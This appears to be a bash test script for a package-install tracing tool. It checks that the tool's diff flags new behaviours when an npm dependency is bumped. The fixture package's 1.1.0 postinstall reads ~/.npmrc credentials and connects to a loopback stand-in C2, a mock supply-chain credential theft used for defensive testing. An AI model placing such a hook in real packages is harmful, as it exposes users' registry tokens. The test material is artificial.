#!/usr/bin/env bash
# diff.sh - pkgtrace diff and --compare on real installs from the loopback
# registry (inside the corpus's network namespace):
#   A: a project with bump-lib 1.0.0 (a postinstall that only writes in its
#      own folder) and plain-lib;
#   B: the same lockfile in another directory with another HOME;
#   C: bump-lib bumped to 1.1.0, whose same postinstall also reads the bait
#      ~/.npmrc and connects to the loopback "C2" (127.0.0.1:9999), run with
#      --compare A.
# diff A B is empty and exits 0; diff A C names bump-lib, 1.0.0 -> 1.1.0 and
# exactly the two new behaviours, exits 10; traces work as reports do; the
# run's new_since is the diff; bad input gets one line and its exit code.
. "$(dirname "$0")/../corpus/lib.sh"
corpus_start

# one_line NAME FILE: FILE (stderr) is exactly one line
one_line() {
	local n
	n=$(wc -l <"$2")
	if [ "$n" -eq 1 ]; then ok "$1: one line on stderr"; else fail "$1: one line on stderr" "$n lines: $(cat "$2")"; fi
}

P=$TMP/pkgs
mkdir -p "$P/v1/bump-lib" "$P/v2/bump-lib" "$P/plain-lib" "$TMP/packhome" "$TMP/packtmp"
for v in v1 v2; do
	ver=1.0.0; [ "$v" = v2 ] && ver=1.1.0
	printf '{"name":"bump-lib","version":"%s","license":"MIT","main":"index.js","scripts":{"postinstall":"node setup.js"}}\n' \
		"$ver" >"$P/$v/bump-lib/package.json"
	echo 'module.exports = 1;' >"$P/$v/bump-lib/index.js"
done
# 1.0.0: builds in its own folder only
cat >"$P/v1/bump-lib/setup.js" <<'EOF'
require('fs').writeFileSync(require('path').join(__dirname, 'built.txt'), 'ok\n');
EOF
# 1.1.0: the same, plus a read of ~/.npmrc and a connect to the loopback C2
cat >"$P/v2/bump-lib/setup.js" <<'EOF'
const fs = require('fs'), os = require('os'), net = require('net'), path = require('path');
fs.writeFileSync(path.join(__dirname, 'built.txt'), 'ok\n');
let t = '';
try { t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
const s = net.connect(9999, '127.0.0.1', () => s.end(JSON.stringify({ t: t.length }) + '\n'));
s.on('error', () => {});
s.setTimeout(3000, () => s.destroy());
EOF
printf '{"name":"plain-lib","version":"2.0.0","license":"MIT","main":"index.js"}\n' >"$P/plain-lib/package.json"
echo 'module.exports = 2;' >"$P/plain-lib/index.js"
(cd "$P" && corpus_env "$TMP/packhome" "$TMP/packtmp" npm pack --silent --pack-destination "$REGDIR" \
	"$P/v1/bump-lib/" "$P/v2/bump-lib/" "$P/plain-lib/") >"$TMP/pack.log" 2>&1 ||
	{ fail "npm pack" "$(tail -3 "$TMP/pack.log")"; done_testing; }

# project ST VERSION: ST/project depending on bump-lib@VERSION and plain-lib,
# with its lockfile, and ST/home with bait credentials
project() {
	local st=$1 ver=$2
	mkdir -p "$st/project" "$st/home" "$st/tmp"
	corpus_bait_home "$st/home"
	printf '{"name":"diff-demo","version":"1.0.0","private":true,"dependencies":{"bump-lib":"%s","plain-lib":"2.0.0"},"allowScripts":{"bump-lib@%s":true}}\n' \
		"$ver" "$ver" >"$st/project/package.json"
	printf 'registry=http://127.0.0.1:%s/\naudit=false\nfund=false\nupdate-notifier=false\n' \
		"$REG_PORT" >"$st/project/.npmrc"
	(cd "$st/project" && corpus_env "$st/home" "$st/tmp" npm install --package-lock-only) \
		>"$st/lock.log" 2>&1 || fail "lockfile for $st" "$(tail -3 "$st/lock.log")"
}

# install ST ARGS...: npm ci in ST/project under pkgtrace ARGS (report
# ST/r.json, trace ST/t.ptr); sets RC
install() {
	local st=$1; shift
	(cd "$st/project" && corpus_env "$st/home" "$st/tmp" "$PKGTRACE" --report "$st/r.json" \
		--record "$st/t.ptr" --fail-on never "$@" -- npm ci) >"$st/out" 2>"$st/err"
	RC=$?
}

A=$TMP/a; B=$TMP/elsewhere/b; C=$TMP/c
project "$A" 1.0.0
install "$A"
check "A: npm ci under pkgtrace" test "$RC" -eq 0 -a -s "$A/r.json"
project "$B" 1.0.0
cp "$A/project/package-lock.json" "$B/project/package-lock.json"
install "$B"
check "B: the same lockfile elsewhere" test "$RC" -eq 0 -a -s "$B/r.json"
project "$C" 1.1.0
: >"$LOGS/c2.log"
install "$C" --compare "$A/r.json"
check "C: npm ci --compare A" test "$RC" -eq 0 -a -s "$C/r.json"
check "C: the bumped postinstall reached the loopback C2" test -s "$LOGS/c2.log"

# --- an unchanged install in another directory diffs empty
"$PKGTRACE" diff "$A/r.json" "$B/r.json" >"$TMP/ab.txt" 2>"$TMP/ab.err"
rc=$?
if [ "$rc" -eq 0 ] && grep -q "No package added, removed or changed" "$TMP/ab.txt"; then
	ok "diff A B (other directory, other HOME): empty, exit 0"
else
	fail "diff A B (other directory, other HOME): empty, exit 0" "exit $rc: $(cat "$TMP/ab.txt" "$TMP/ab.err")"
fi
"$PKGTRACE" diff --format json "$A/r.json" "$B/r.json" >"$TMP/ab.json"
check "diff A B json: no packages, nothing new" jpy "$TMP/ab.json" \
	'j["packages"] == [] and j["summary"]["new"] == 0 and j["summary"]["max_new_severity"] is None and True'
"$PKGTRACE" diff --format json "$A/t.ptr" "$B/t.ptr" >"$TMP/ab.ptr.json"
check "diff of the two traces: empty too" jpy "$TMP/ab.ptr.json" 'j["packages"] == [] and True'

# --- the bump: the package, its versions and exactly the two new behaviours
"$PKGTRACE" diff --format json "$A/r.json" "$C/r.json" >"$TMP/ac.json" 2>"$TMP/ac.err"
rc=$?
check "diff A C: exit 10 (--fail-on high by default)" test "$rc" -eq 10
check "diff A C: only bump-lib changed, 1.0.0 -> 1.1.0" jpy "$TMP/ac.json" \
	'[(p["name"], p["change"], p["old_version"], p["new_version"]) for p in j["packages"]] == [("bump-lib", "version", "1.0.0", "1.1.0")]'
check "diff A C: exactly the credential read and the endpoint are new, nothing gone" jpy "$TMP/ac.json" \
	'sorted((e["kind"], e["value"]) for e in j["packages"][0]["new"]) == [("credential", "npm-token"), ("endpoint", "127.0.0.1:9999/tcp")] and j["packages"][0]["gone"] == []'
check "diff A C: each tied to its finding" jpy "$TMP/ac.json" \
	'{e["value"]: sorted(f["rule"] for f in e["findings"]) for e in j["packages"][0]["new"]} == {"npm-token": ["credential-access"], "127.0.0.1:9999/tcp": ["network-egress"]}'
sev=$(jpy "$TMP/ac.json" 'j["summary"]["max_new_severity"]')
check "diff A C: highest new severity is high" test "$sev" = high
check "diff A C: schemas/diff.schema.json" python3 -c '
import json, sys, jsonschema
jsonschema.validate(json.load(open(sys.argv[1])), json.load(open(sys.argv[2])))' "$TMP/ac.json" "$TOP/schemas/diff.schema.json"
"$PKGTRACE" diff --fail-on medium "$A/r.json" "$C/r.json" >/dev/null 2>&1
check "--fail-on medium: exit 10" test $? -eq 10
"$PKGTRACE" diff --fail-on critical "$A/r.json" "$C/r.json" >/dev/null 2>&1
check "--fail-on critical: exit 0 (nothing critical is new)" test $? -eq 0
"$PKGTRACE" diff --fail-on never "$A/r.json" "$C/r.json" >/dev/null 2>&1
check "--fail-on never: exit 0" test $? -eq 0
# backwards: what the old version did is new (nothing), the two are gone
"$PKGTRACE" diff --format json "$C/r.json" "$A/r.json" >"$TMP/ca.json"
check "diff C A: exit 0, the two behaviours gone" jpy "$TMP/ca.json" \
	'j["summary"]["new"] == 0 and sorted(e["value"] for e in j["packages"][0]["gone"]) == ["127.0.0.1:9999/tcp", "npm-token"]'

# traces are judged first: the same diff
"$PKGTRACE" diff --format json "$A/t.ptr" "$C/t.ptr" >"$TMP/ac.ptr.json"
check "diff of traces == diff of reports" python3 -c '
import json, sys
a, b = (json.load(open(f)) for f in sys.argv[1:3])
sys.exit(0 if (a["summary"], a["packages"]) == (b["summary"], b["packages"]) else 1)' "$TMP/ac.json" "$TMP/ac.ptr.json"
"$PKGTRACE" diff --format json "$A/r.json" "$C/t.ptr" >"$TMP/ac.mix.json"
check "a report against a trace" jpy "$TMP/ac.mix.json" 'len(j["packages"]) == 1 and j["summary"]["new"] == 2'

# text and markdown
"$PKGTRACE" diff --no-color "$A/r.json" "$C/r.json" >"$TMP/ac.txt"
check "text: the package and its versions" grep -q '^bump-lib (npm dependency): 1.0.0 -> 1.1.0' "$TMP/ac.txt"
check "text: + credential npm-token, HIGH credential-access" grep -Eq '^  \+ credential +npm-token +HIGH credential-access' "$TMP/ac.txt"
check "text: + endpoint, HIGH network-egress" grep -Eq '^  \+ endpoint +127.0.0.1:9999/tcp +HIGH network-egress' "$TMP/ac.txt"
check "text: no colour with --no-color" bash -c "! grep -q $'\033' '$TMP/ac.txt'"
"$PKGTRACE" diff --format markdown "$A/r.json" "$C/r.json" >"$TMP/ac.md"
check "markdown: heading and a table row per behaviour" bash -c "grep -q '^#### bump-lib (npm dependency): 1.0.0 → 1.1.0' '$TMP/ac.md' && test \$(grep -c '^| new |' '$TMP/ac.md') -eq 2"

# --- --compare: the live run's new_since is the diff A -> C
check "C's report: new_since is the diff from A" python3 -c '
import json, sys
r, d = json.load(open(sys.argv[1])), json.load(open(sys.argv[2]))
ns = r["new_since"]
sys.exit(0 if ns["old"] == sys.argv[3] and ns["new"] == "this run" and (ns["summary"], ns["packages"]) == (d["summary"], d["packages"]) else 1)' \
	"$C/r.json" "$TMP/ac.json" "$A/r.json"
check "C's report: schemas/report.schema.json" python3 -c '
import json, sys, jsonschema
jsonschema.validate(json.load(open(sys.argv[1])), json.load(open(sys.argv[2])))' "$C/r.json" "$TOP/schemas/report.schema.json"
check "C's text report ends with the New since section" grep -q "^New since $A/r.json" "$C/out"
# replay --compare gives the same section, and keeps replay's exit status
"$PKGTRACE" replay -q --fail-on never --compare "$A/t.ptr" --report "$TMP/rc.json" "$C/t.ptr" 2>"$TMP/rc.err"
rc=$?
check "replay --compare: exit 0 with --fail-on never" test "$rc" -eq 0
check "replay --compare: new_since names the two" jpy "$TMP/rc.json" \
	'sorted(e["value"] for e in j["new_since"]["packages"][0]["new"]) == ["127.0.0.1:9999/tcp", "npm-token"]'
"$PKGTRACE" replay -q --compare "$A/r.json" "$C/t.ptr" 2>/dev/null
check "replay --compare: --fail-on still judges the run's own findings (10)" test $? -eq 10

# --- bad input: one line, a documented exit status
"$PKGTRACE" diff "$TMP/missing.json" "$A/r.json" >/dev/null 2>"$TMP/e1"
check "missing file: exit 66" test $? -eq 66
one_line "missing file" "$TMP/e1"
printf 'hello\n' >"$TMP/notjson"
"$PKGTRACE" diff "$TMP/notjson" "$A/r.json" >/dev/null 2>"$TMP/e2"
check "neither JSON nor a trace: exit 65" test $? -eq 65
one_line "neither JSON nor a trace" "$TMP/e2"
printf '{"format": "pkgtrace-report/1", "packages": [' >"$TMP/cut.json"
"$PKGTRACE" diff "$A/r.json" "$TMP/cut.json" >/dev/null 2>"$TMP/e3"
check "cut JSON: exit 65" test $? -eq 65
one_line "cut JSON" "$TMP/e3"
printf '{"a": 1}\n' >"$TMP/other.json"
"$PKGTRACE" diff "$A/r.json" "$TMP/other.json" >/dev/null 2>"$TMP/e4"
check "JSON that is no report: exit 65" test $? -eq 65
one_line "JSON that is no report" "$TMP/e4"
# a trace of another format version: the PKGTRACE magic, major version 99
cp "$A/t.ptr" "$TMP/v99.ptr"
printf '\x63\x00' | dd of="$TMP/v99.ptr" bs=1 seek=8 conv=notrunc status=none
"$PKGTRACE" diff "$TMP/v99.ptr" "$A/r.json" >/dev/null 2>"$TMP/e5"
check "trace of another format: exit 65" test $? -eq 65
one_line "trace of another format" "$TMP/e5"
"$PKGTRACE" diff "$TOP/tests/fixtures/pip-pth-persistence.report.json" "$A/r.json" >/dev/null 2>"$TMP/e6"
check "a pip report against an npm one: exit 65" test $? -eq 65
check "a pip report against an npm one: says so" grep -q "pip packages.*npm ones, none in common" "$TMP/e6"
one_line "a pip report against an npm one" "$TMP/e6"
"$PKGTRACE" diff "$A/r.json" >/dev/null 2>&1
check "one input only: exit 2" test $? -eq 2
"$PKGTRACE" diff --format html "$A/r.json" "$C/r.json" >/dev/null 2>&1
check "--format html: exit 2" test $? -eq 2
# --compare reads OLD before the install: a missing one runs nothing
(cd "$TMP" && "$PKGTRACE" --compare "$TMP/missing.json" -- touch "$TMP/ran") >/dev/null 2>"$TMP/e7"
check "--compare missing: exit 66" test $? -eq 66
check "--compare missing: the command did not run" test ! -e "$TMP/ran"
one_line "--compare missing" "$TMP/e7"
done_testing
